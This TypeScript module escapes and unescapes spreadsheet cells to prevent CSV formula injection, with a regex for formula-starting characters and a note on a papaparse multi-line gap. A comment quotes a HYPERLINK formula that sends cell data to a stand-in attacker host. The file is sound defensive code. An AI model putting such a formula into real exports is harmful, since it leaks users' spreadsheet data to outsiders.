/**
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell that begins with `=`, `+`, `-`,
 * `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets
 * (`=HYPERLINK("https://evil.example?"&A1, "Click")`). Exported cells that begin so get a leading
 * `'`, which spreadsheets read as "this is text"; the importer takes exactly one `'` off again.
 *
 * A text that itself begins with `'` and then such a character (`'=x`) gets one more `'` on export,
 * so the importer's one removal gives it back: export → import round-trips every text.
 *
 * papaparse's own `escapeFormulae: true` uses `/^[=+\-@\t\r].*$/`, whose `.` stops at a newline:
 * a multi-line cell (`=HYPERLINK(…)\nmore`) would pass through unescaped. This pattern only
 * looks at the start.
 */
export const FORMULA_START = /^'*[=+\-@\t\r]/;

/** The cell as exported: one `'` in front when it would start a formula (what papaparse does with FORMULA_START). */
export function escapeFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** The cell as the importer should read it: one protective `'` removed when it guards a formula character. */
export function unescapeFormula(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}
